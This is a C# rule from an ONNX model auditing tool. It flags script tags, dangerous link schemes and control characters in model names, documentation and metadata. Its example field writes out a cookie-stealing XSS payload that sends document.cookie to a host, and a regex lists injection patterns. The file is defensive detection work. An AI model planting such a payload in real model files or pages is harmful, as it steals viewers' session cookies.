using System.Text.RegularExpressions;
using GraphRewriter.Ir;
using OnnxAuditor.Reports;

namespace OnnxAuditor.Rules;

/// <summary>SEC006.</summary>
static partial class ActiveText
{
    public static readonly Rule Rule = new("SEC006", "ActiveText", "Texts of the model hold scripts or links", Severity.Warning, RuleCost.Scan, new RuleText(
        WhatItFinds: "Script tags, script and file links, and control characters in names, documentation and metadata; links to the web in documentation and metadata.",
        WhyItMatters: """
            Viewers, registries and reports show these texts. One that does not escape them runs the script in the reader's browser or lets the text rewrite the terminal. An honest exporter writes
            no such thing. Links to the web are usual (a licence, a project page) and only worth knowing.
            """,
        HowItIsComputed: """
            All names, documentation strings and metadata entries are searched for `<script`, event-handler attributes, `javascript:`, `vbscript:`, `data:text/html`, `file:` links and control
            characters other than tab and line break: warning. `http:` and `https:` links: info. This program escapes what it shows.
            """,
        Threshold: "None.",
        Example: "A node named `<script>fetch('//host/'+document.cookie)</script>`.",
        Remedy: "Find out where the file comes from. To clean it: rename what is named so, and `del model.metadata_props[:]`, `model.ClearField(\"doc_string\")`.",
        WhenToIgnore: "Links to the web that belong to the model's documentation.",
        References: "CWE-79, https://cwe.mitre.org/data/definitions/79.html; CWE-150, https://cwe.mitre.org/data/definitions/150.html"),
        Find);

    static IEnumerable<Observation> Find(RuleContext context)
    {
        var links = new List<string>();
        foreach (var (where, text, isName) in Texts(context.Model))
        {
            if (Script().Match(text) is { Success: true } script)
            {
                yield return new Observation(where, "This text holds what a viewer could run or a terminal could obey.", $"'{Printable(script.Value)}'", "plain text", 1)
                {
                    Remedy = "Find out where the file comes from; rename or remove the text before showing it to others.",
                };
            }
            else if (!isName && Link().IsMatch(text))
            {
                links.Add(where);
            }
        }
        if (links.Count > 0)
        {
            yield return new Observation(links[0], $"{NumberFormat.Count(links.Count, "text holds", "texts hold")} a link to the web.", NumberFormat.Count(links.Count, "text"), "0")
            {
                Severity = Severity.Info,
                Count = links.Count,
                OtherPlaces = [.. links.Skip(1)],
                Remedy = "Nothing, where the link belongs to the model's documentation.",
            };
        }
    }

    static IEnumerable<(string Where, string Text, bool IsName)> Texts(Model model)
    {
        foreach (var (key, value) in model.Metadata)
        {
            yield return ("metadata", key, true);
            yield return ($"metadata '{key}'", value, false);
        }
        yield return ("producer", $"{model.ProducerName} {model.ProducerVersion} {model.Domain}", true);
        if (model.Documentation is { } about) yield return ("documentation", about, false);
        if (model.Graph.Documentation is { } graph) yield return ("documentation of the graph", graph, false);
        foreach (var value in model.Graph.Inputs.Concat(model.Graph.Outputs).Concat(model.Graph.Initializers)) yield return (value.Name, value.Name, true);
        foreach (var node in model.Graph.AllNodes())
        {
            yield return (node.Name, node.Name, true);
            if (node.Documentation is { } said) yield return ($"documentation of '{node.Name}'", said, false);
            foreach (var output in node.Outputs) if (output is not null) yield return (output.Name, output.Name, true);
        }
    }

    static string Printable(string text) => string.Concat(text.Take(40).Select(c => char.IsControl(c) ? '\uFFFD' : c));

    [GeneratedRegex(@"<\s*(script|iframe|object|embed)\b|\bon(error|load|click|mouseover)\s*=|\b(javascript|vbscript):|\bdata:text/html|\bfile://|[\x00-\x08\x0B\x0C\x0E-\x1F\x7F\u0080-\u009F]",
        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Script();

    [GeneratedRegex(@"\bhttps?://", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Link();
}
